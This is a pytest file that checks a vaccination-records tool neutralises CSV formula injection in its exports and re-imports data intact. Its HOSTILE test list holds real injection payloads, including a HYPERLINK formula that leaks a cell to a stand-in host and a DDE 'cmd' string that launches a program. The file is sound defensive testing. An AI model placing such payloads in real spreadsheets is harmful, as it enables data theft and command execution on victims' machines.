"""CSV formula injection: every CSV vaxline writes shows a site's or a citizen's text as text.

Covers: the neutralising cell (`=`, `+`, `-`, `@`, tab, CR and NUL get a leading `'`; numbers and harmless
text unchanged; `restored` gives back exactly what was written, a leading `'` included); the review CSV of
GET /v1/review and `vaxline review --out` with a record id a site sent as a formula; the writer behind
`vaxline corrections --out` with a name and a note typed as formulas; the back-entry CSV error report
neutralises a rejected row's cells, and that report, fixed, imports again with the values the site typed
(a `+84` phone, a record id starting with `=`), even a second time round; the CSV template.
"""

from __future__ import annotations

import asyncio
import csv
import io

import pytest

from commands import main as cli
from commands.common import write_csv
from commands.records import CORRECTION_COLUMNS
from tests.factory import dose
from tests.stack import running_stack
from tests.test_import import read_csv, summary, vaxline  # noqa: F401 (a fixture)
from tests.test_import import write_csv as write_input
from tests.test_quality import auth, settled
from vaxline import csvsafe

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"open")', "+1+2", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "\0=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_and_comes_back(text):
    assert csvsafe.cell(text) == "'" + text
    assert csvsafe.restored(csvsafe.cell(text)) == text


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "R-0001", "0912345678", "", "a=b", "O'Brien", "2021-08-14",
                                   -3, 0, 2.5, None])
def test_harmless_cells_and_numbers_are_written_as_they_are(value):
    assert csvsafe.cell(value) == value
    if isinstance(value, str):
        assert csvsafe.restored(value) == value


def test_a_leading_quote_is_kept_through_a_round_trip():
    for text in ("'abc", "''", "'=1", "'"):
        assert csvsafe.restored(csvsafe.cell(text)) == text
    assert csvsafe.cell("'abc") == "''abc"


def spreadsheet_cells(text: str) -> list[str]:
    """Every cell of a CSV, as a spreadsheet's CSV reader splits them."""
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def formulas(cells: list[str]) -> list[str]:
    return [c for c in cells if c[:1] in csvsafe.FORMULA_STARTS]


async def test_the_review_csv_shows_a_record_id_sent_as_a_formula_as_text(settings, db, monkeypatch, tmp_path):
    record_id = HOSTILE[0]
    async with running_stack(settings, reviewers=1) as stack:
        _, token = await stack.site("CSV-A")
        response = await stack.post(token, {"doses": [dose(7, record_id=record_id, dose_number=2)]})
        assert response.status == 202
        await settled(db, batches=1)
        served = await (await stack.client.get("/v1/review", params={"format": "csv"}, headers=auth(token))).text()
    for name, value in settings.to_env().items():
        monkeypatch.setenv(name, value)
    out = tmp_path / "review.csv"
    assert await asyncio.to_thread(cli.main, ["review", "--out", str(out)]) == 0
    for text in (served, out.read_text(encoding="utf-8")):
        cells = spreadsheet_cells(text)
        assert "'" + record_id in cells and formulas(cells) == []
        assert "CSV-A" in cells and "missing_earlier_dose" in cells  # harmless cells as they were


def test_the_corrections_csv_shows_names_and_notes_typed_as_formulas_as_text(tmp_path):
    out = tmp_path / "corrections.csv"
    write_csv(out, CORRECTION_COLUMNS, [
        {"request_id": "rq-1", "status": "submitted", "full_name": "=1+1", "note": "@SUM(A1)", "province": 1,
         "national_id": "001099012345", "message": "-", "site": "S-1"},
        {"request_id": "rq-2", "status": "submitted", "full_name": "Trần Thị Bình", "note": "tiêm ngày 14/8",
         "province": -1},
    ])
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert (rows[0]["full_name"], rows[0]["note"], rows[0]["message"]) == ("'=1+1", "'@SUM(A1)", "'-")
    assert (rows[1]["full_name"], rows[1]["note"]) == ("Trần Thị Bình", "tiêm ngày 14/8")
    assert rows[0]["national_id"] == "001099012345" and rows[0]["province"] == "1"
    assert rows[1]["province"] == "-1"  # a number we wrote as a number stays one


HEADER = ["record_id", "national_id", "full_name", "birth_date", "sex", "phone", "vaccine", "lot", "dose_number",
          "administered_at"]


def input_row(n: int, **fields) -> list[str]:
    d = dose(n, record_prefix="CSV") | fields
    return [d["record_id"], d["national_id"], d["full_name"], d["birth_date"], d["sex"], d["phone"], "Pfizer",
            d["lot"], str(d["dose_number"]), d["administered_at"]]


async def test_the_back_entry_error_report_is_neutralised_and_imports_again(settings, db, vaxline,  # noqa: F811
                                                                            tmp_path):
    hostile = input_row(1, record_id="=1+2", phone="+84912345678", lot="-LOT", full_name="@Nguyễn Văn An")
    path = write_input(tmp_path / "bo-sung.csv", HEADER, [input_row(0), hostile[:6] + ["Sinovax"] + hostile[7:]])
    async with running_stack(settings) as stack:
        site_id, _ = await stack.site("CSV-B")
        code, out, err = await vaxline("import", str(path), "--site", "CSV-B")
        assert (code, summary(out)) == (1, "2 rows: 1 accepted (1 new, 0 duplicates, 0 pending), 1 rejected"), err
        report = read_csv(tmp_path / "bo-sung.errors.csv")
        assert report[1][:len(HEADER)] == ["'=1+2", hostile[1], "'@Nguyễn Văn An", hostile[3], hostile[4],
                                           "'+84912345678", "Sinovax", "'-LOT", "1", hostile[9]]
        assert formulas([c for row in report for c in row]) == []
        # Rejected again (the vaccine still wrong), the report of the report is neutralised once, not twice.
        code, _, _ = await vaxline("import", str(tmp_path / "bo-sung.errors.csv"), "--site", "CSV-B")
        again = read_csv(tmp_path / "bo-sung.errors.errors.csv")
        assert code == 1 and again[1][:len(HEADER)] == report[1][:len(HEADER)]
        report[1][6] = "Pfizer"  # the site fixes the row in its spreadsheet and saves the report
        write_input(tmp_path / "bo-sung.errors.csv", report[0], report[1:])
        code, out, err = await vaxline("import", str(tmp_path / "bo-sung.errors.csv"), "--site", "CSV-B")
        assert (code, summary(out)) == (0, "1 rows: 1 accepted (1 new, 0 duplicates, 0 pending), 0 rejected"), err
    stored = await db.fetchrow("SELECT full_name, phone, lot FROM doses WHERE site_id = $1 AND record_id = '=1+2'",
                               site_id)
    assert dict(stored) == {"full_name": "@Nguyễn Văn An", "phone": "+84912345678", "lot": "-LOT"}


async def test_the_csv_template_is_written_as_it_was(vaxline, tmp_path):  # noqa: F811
    code, _, err = await vaxline("import", "--template", str(tmp_path / "mau.csv"))
    assert code == 0, err
    rows = read_csv(tmp_path / "mau.csv")
    assert rows[1][:2] == ["record_id", "national_id"] and formulas(rows[0] + rows[1]) == []
